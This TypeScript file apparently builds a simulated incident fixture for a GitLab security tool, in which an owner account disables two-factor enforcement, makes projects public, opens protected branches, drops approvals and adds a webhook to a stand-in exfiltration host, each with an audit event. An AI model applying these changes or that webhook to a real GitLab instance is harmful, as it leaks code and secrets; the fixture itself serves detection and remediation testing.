// Scenario "incident": the hardened instance after an attacker (mallory, an owner of acme) misconfigured it
// (incident guide, "Misconfigured project or group settings"). Each change carries the audit event GitLab
// would have written (docs/gitlab-behaviour.md, Audit events); the Git-abuse change has none because GitLab records none, and
// `public_builds` is not among the columns Audit::ProjectChangesAuditor audits, so public_jobs has none either.
import { nextId } from '../state';
import { accessEntry, addHook, hoursBefore, pastEvent, variable, type ScenarioOptions } from './build';
import { buildHardened, type AcmeWorld } from './hardened';

export const ATTACKER_IP = '203.0.113.9';
export const EXFIL_HOOK_URL = 'http://exfil.attacker.example/hook';

export function buildIncident(opts: ScenarioOptions = {}): AcmeWorld {
  const world = buildHardened(opts);
  const { state, users, groups, projects, now } = world;
  const acme = groups.acme;
  const web = projects['acme/web'];
  const api = projects['acme/api'];
  const mallory = users.mallory;
  let hoursAgo = 62;
  const at = () => {
    hoursAgo -= 1.5;
    return hoursBefore(now, hoursAgo);
  };
  const group = { entity_type: 'Group' as const, entity_id: acme.id, entity_path: acme.full_path };
  const project = (p: typeof web) => ({ entity_type: 'Project' as const, entity_id: p.id, entity_path: p.path_with_namespace });

  // Long before the incident: the instance never restricted `public` to administrators, which is how an owner
  // could publish acme at all (instance.restricted-public, seen with an administrator token). No event: it is
  // the setting's state, not a change in the window.
  state.application_settings.restricted_visibility_levels = null;

  acme.require_two_factor_authentication = false;
  pastEvent(state, mallory, ATTACKER_IP, at(), {
    ...group, event_name: 'group_require_two_factor_authentication_updated', change: 'require_two_factor_authentication', from: true, to: false,
  });

  // GitLab refuses a project more open than its group (docs/gitlab-behaviour.md, Visibility), so making acme/web public took
  // opening acme first: the incident a real instance can be in, and the order revert must undo.
  acme.visibility = 'public';
  pastEvent(state, mallory, ATTACKER_IP, at(), {
    ...group, event_name: 'group_visibility_level_updated', change: 'visibility', from: 'Private', to: 'Public',
  });
  web.visibility = 'public';
  pastEvent(state, mallory, ATTACKER_IP, at(), {
    ...project(web), event_name: 'project_visibility_level_updated', change: 'visibility_level', from: 'Private', to: 'Public',
  });

  const main = web.protected_branches.find((b) => b.name === 'main')!;
  const branchTarget = { target_id: main.id, target_type: 'ProtectedBranch', target_details: main.name };
  main.allow_force_push = true;
  pastEvent(state, mallory, ATTACKER_IP, at(), {
    ...project(web), ...branchTarget, event_name: 'protected_branch_allow_force_push_updated', change: 'allow force push', from: false, to: true,
  });
  main.push_access_levels.push(accessEntry(state, 30));
  pastEvent(state, mallory, ATTACKER_IP, at(), {
    ...project(web), ...branchTarget, event_name: 'protected_branch_updated', change: 'allowed to push',
    from: ['Maintainers'], to: ['Maintainers', 'Developers + Maintainers'],
  });

  const rule = api.approval_rules[0];
  rule.approvals_required = 0;
  pastEvent(state, mallory, ATTACKER_IP, at(), {
    ...project(api), event_name: 'update_approval_rules', target_id: rule.id, target_type: 'ApprovalProjectRule', target_details: rule.name,
    change: 'number of required approvals', from: 2, to: 0, // ApprovalRules::Updater's wording
  });
  api.approvals.merge_requests_author_approval = true;
  // Audit::ProjectChangesAuditor logs this column inverted, as "prevent merge request approval from authors".
  pastEvent(state, mallory, ATTACKER_IP, at(), {
    ...project(api), event_name: 'project_merge_requests_author_approval_updated', change: 'prevent merge request approval from authors', from: true, to: false,
  });

  const hookAt = at();
  const hook = addHook(state, api, EXFIL_HOOK_URL, false, hookAt.toISOString());
  hook.push_events = true;
  hook.merge_requests_events = true;
  pastEvent(state, mallory, ATTACKER_IP, hookAt, {
    ...project(api), event_name: 'webhook_created', target_id: hook.id, target_type: 'ProjectHook', target_details: `Hook ${hook.id}`, custom_message: 'Created project hook',
  });

  // No audit event: GitLab has no event type for group Git abuse limits (docs/gitlab-behaviour.md, Audit events).
  acme.unique_project_download_limit = 0;

  const deploy = projects['acme/platform/deploy'];
  deploy.variables.push(variable('AWS_SECRET_ACCESS_KEY', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', false, false));
  pastEvent(state, mallory, ATTACKER_IP, at(), {
    ...project(deploy), event_name: 'ci_variable_created', target_id: nextId(state), target_type: 'Ci::Variable', target_details: 'AWS_SECRET_ACCESS_KEY',
    custom_message: 'Added ci variable',
  });

  // No audit event: public_builds is not an audited project column.
  projects['acme/platform/infra'].public_jobs = true;
  return world;
}
